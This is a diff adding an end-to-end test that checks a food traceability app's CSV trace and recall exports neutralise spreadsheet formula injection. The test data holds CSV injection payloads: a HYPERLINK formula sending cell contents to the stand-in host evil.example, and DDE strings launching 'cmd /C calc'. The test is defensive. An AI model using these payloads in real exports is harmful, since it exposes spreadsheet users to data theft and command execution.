@@ -8,7 +8,8 @@ import { attachAllPapers, minutesAgo, scanOk, uid } from './support/fixtures';
  * a destruction, a recall) exported as the trace and the recall CSV, read back
  * by a real CSV parser: the header row, one row per critical tracking event of
  * the lots' histories, Chinese names intact, times ISO 8601 with the offset,
- * quoting that round-trips, the trace's operator scope, 404s as JSON.
+ * quoting that round-trips, text a spreadsheet would run as a formula
+ * neutralised, the trace's operator scope, 404s as JSON.
  */
 
 const CTE_HEADER = [
@@ -231,6 +232,60 @@ describe('CSV exports: trace and recall spreadsheets (e2e, real PostgreSQL)', ()
     // Sorted by lot, then time.
     const keys = rows.map((r) => [r.traceability_lot_code, r.event_time] as const);
     expect([...keys].sort((a, b) => (a[0] < b[0] ? -1 : a[0] > b[0] ? 1 : a[1] < b[1] ? -1 : a[1] > b[1] ? 1 : 0))).toEqual(keys);
+  });
+
+  it('neutralises names a spreadsheet would run as formulas (OWASP: a leading \'), and dropping it gives the names back', async () => {
+    // What the outside probe registered: each starts a formula in Excel, LibreOffice or Google Sheets.
+    const evil = {
+      port: '=HYPERLINK("http://evil.example/?"&A1,"open")',
+      warehouse: '+cmd|\' /C calc\'!A0',
+      market: '-2+3+cmd|\' /C calc\'!A0',
+      store: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      product: '\t=1+1',
+    };
+    const g = { port: `PORT-X-${tag}`, warehouse: `CW-X-${tag}`, market: `WM-X-${tag}`, store: `RS-X-${tag}` };
+    const admin = t.as(t.tokens.admin);
+    await admin.post('/api/facilities').send({ id: g.port, name: evil.port, type: 'PORT_OF_ENTRY', zones: [] }).expect(201);
+    await admin.post('/api/facilities').send({ id: g.warehouse, name: evil.warehouse, type: 'CENTRAL_WAREHOUSE', zones: [{ id: 'IN-1', kind: 'DEDICATED_INTAKE' }] }).expect(201);
+    await admin.post('/api/facilities').send({ id: g.market, name: evil.market, type: 'WHOLESALE_MARKET', zones: [{ id: 'COLD-2', kind: 'DEDICATED_STORAGE' }] }).expect(201);
+    await admin.post('/api/facilities').send({ id: g.store, name: evil.store, type: 'RETAIL_STORE', zones: [{ id: 'BACK-1', kind: 'GENERAL' }] }).expect(201);
+    const lot = `EVIL-${tag}`;
+    await t
+      .http()
+      .post('/api/lots')
+      .send({ traceCode: lot, product: { name: evil.product, category: 'FROZEN' }, originCountry: 'BR', importer: '=1+1', quantity: { amount: 10, unit: 'KG' }, portOfEntryId: g.port, enteredAt: minutesAgo(600) })
+      .expect(201);
+    await attachAllPapers(t, lot);
+    let at = 500;
+    const step = () => minutesAgo((at -= 10));
+    await scanOk(t, { traceCode: lot, facilityId: g.port, action: 'DISPATCH', toFacilityId: g.warehouse, occurredAt: step() });
+    await scanOk(t, { traceCode: lot, facilityId: g.warehouse, action: 'RECEIVE', zoneId: 'IN-1', occurredAt: step() });
+    await scanOk(t, { traceCode: lot, facilityId: g.warehouse, action: 'DISPATCH', toFacilityId: g.market, occurredAt: step() });
+    await scanOk(t, { traceCode: lot, facilityId: g.market, action: 'RECEIVE', zoneId: 'COLD-2', occurredAt: step() });
+    await scanOk(t, { traceCode: lot, facilityId: g.market, action: 'DISPATCH', toFacilityId: g.store, occurredAt: step() });
+    await scanOk(t, { traceCode: lot, facilityId: g.store, action: 'RECEIVE', zoneId: 'BACK-1', occurredAt: step() });
+    const recall = `R-X-${tag}`;
+    const recalled = (await t.http().post(`/api/lots/${lot}/recall`).send({ reason: 'probe', recallId: recall }).expect(201)).body.position as number;
+
+    const names = new Set(Object.values(evil));
+    /** Cells holding one of the names behind one leading character. */
+    const neutralised = (x: Csv) => x.rows.flatMap((r) => Object.values(r)).filter((cell) => names.has(cell.slice(1)));
+    for (const url of [`/api/lots/${lot}/trace.csv?direction=forward&atLeast=${recalled}`, `/api/recalls/${recall}/export.csv?atLeast=${recalled}`]) {
+      const x = await csv(t.http(), url);
+      // Three shipments and three receipts: the product on each row, two or three facility names, the recall's holder.
+      expect({ url, rows: x.rows.length }).toEqual({ url, rows: 6 });
+      const cells = x.rows.flatMap((r) => Object.values(r));
+      expect({ url, runnable: cells.filter((c) => /^[=+\-@\t\r]/.test(c)) }).toEqual({ url, runnable: [] });
+      // The probe counted 16 such cells in the trace and 23 in the recall export: each now starts with '.
+      const named = neutralised(x);
+      expect(named.length).toBeGreaterThanOrEqual(url.includes('recall') ? 23 : 16);
+      expect(named.filter((cell) => !cell.startsWith("'"))).toEqual([]);
+      // Dropping the one leading ' gives back exactly the recorded names.
+      expect(x.rows.every((r) => r.product_name === `'${evil.product}`)).toBe(true);
+      expect(x.rows.find((r) => r.event_type === 'LotDispatched')).toMatchObject({ location_name: `'${evil.port}`, next_location_name: `'${evil.warehouse}` });
+      expect(x.rows.filter((r) => r.event_type === 'LotReceived').map((r) => r.location_name.slice(1))).toEqual([evil.warehouse, evil.market, evil.store]);
+      if (url.includes('recall')) expect(x.rows.every((r) => r.holder_at_recall_name === `'${evil.store}`)).toBe(true);
+    }
   });
 
   it('an operator gets the lots in its scope only; another firm\'s lot is 404 JSON as the trace answers', async () => {
